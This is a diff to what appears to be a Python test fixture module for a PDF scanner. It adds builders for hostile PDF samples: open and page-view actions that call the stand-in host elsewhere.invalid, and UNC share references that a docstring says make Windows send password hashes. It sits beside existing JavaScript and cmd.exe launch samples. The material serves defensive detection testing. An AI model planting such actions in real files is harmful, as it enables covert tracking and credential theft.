@@ -18,6 +18,7 @@ from pypdf.generic import (
     EncodedStreamObject,
     NameObject,
     NumberObject,
+    PdfObject,
     TextStringObject,
 )
 
@@ -95,6 +96,57 @@ def pdf_that_launches() -> bytes:
     writer = _of_one_page()
     action = DictionaryObject({NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("cmd.exe")})
     writer.root_object[NameObject("/OpenAction")] = action
+    return _written(writer)
+
+
+def _pdf_with(key: str, value: PdfObject, *, page: bool = False) -> bytes:
+    writer = _of_one_page()
+    (writer.pages[0] if page else writer.root_object)[NameObject(key)] = writer._add_object(value)
+    return _written(writer)
+
+
+def _named(**entries: PdfObject) -> DictionaryObject:
+    return DictionaryObject({NameObject(f"/{key}"): value for key, value in entries.items()})
+
+
+_CALLS = _named(S=NameObject("/URI"), URI=TextStringObject("http://elsewhere.invalid/read"))
+"""An address that is called: where nobody clicks, it tells a stranger who has opened the file, and when."""
+
+
+def pdf_that_calls_when_it_is_opened() -> bytes:
+    return _pdf_with("/OpenAction", _CALLS)
+
+
+def pdf_that_calls_after_it_was_opened() -> bytes:
+    first = _named(S=NameObject("/GoTo"), D=ArrayObject([]), Next=ArrayObject([_CALLS]))
+    return _pdf_with("/OpenAction", first)
+
+
+def pdf_that_calls_when_a_page_is_shown() -> bytes:
+    return _pdf_with("/AA", _named(O=_CALLS), page=True)
+
+
+def pdf_whose_link_opens_a_file() -> bytes:
+    """On Windows the name of a share makes the reader send his password's hash."""
+    return _pdf_with("/A", _named(S=NameObject("/Thread"), F=TextStringObject("//elsewhere.invalid/share/a.pdf")))
+
+
+def pdf_whose_page_is_in_another_file() -> bytes:
+    return _with_object(
+        b"<< /Subtype /Form /Ref << /F (//elsewhere.invalid/a.pdf) /Page 0 >> /Length 0 >>stream\n\nendstream"
+    )
+
+
+def pdf_whose_stream_is_in_another_file() -> bytes:
+    return _with_object(b"<< /F (//elsewhere.invalid/share/a) /Length 0 >>stream\n\nendstream")
+
+
+def pdf_that_opens_at_a_page() -> bytes:
+    """Genuine: programs write so where and how large the first page is shown."""
+    writer = _of_one_page()
+    place = ArrayObject([writer.pages[0].indirect_reference, NameObject("/Fit")])
+    writer.root_object[NameObject("/OpenAction")] = _named(S=NameObject("/GoTo"), D=place)
+    writer.pages[0][NameObject("/Annots")] = ArrayObject([_named(Subtype=NameObject("/Link"), A=_CALLS)])
     return _written(writer)
 
 
@@ -267,6 +319,12 @@ HOSTILE: dict[str, tuple[str, Callable[[], bytes], str]] = {
     "javascript": ("a.pdf", pdf_with_javascript, "file_active"),
     "embedded file": ("a.pdf", pdf_with_an_embedded_file, "file_active"),
     "launch action": ("a.pdf", pdf_that_launches, "file_active"),
+    "call when it is opened": ("a.pdf", pdf_that_calls_when_it_is_opened, "file_active"),
+    "call after it was opened": ("a.pdf", pdf_that_calls_after_it_was_opened, "file_active"),
+    "call when a page is shown": ("a.pdf", pdf_that_calls_when_a_page_is_shown, "file_active"),
+    "link that opens a file": ("a.pdf", pdf_whose_link_opens_a_file, "file_active"),
+    "page in another file": ("a.pdf", pdf_whose_page_is_in_another_file, "file_active"),
+    "stream in another file": ("a.pdf", pdf_whose_stream_is_in_another_file, "file_active"),
     "javascript in an object stream": ("a.pdf", pdf_with_javascript_in_an_object_stream, "file_active"),
     "name in escapes": ("a.pdf", pdf_with_a_name_in_escapes, "file_active"),
     "object that no table names": ("a.pdf", pdf_with_an_object_that_no_table_names, "file_active"),
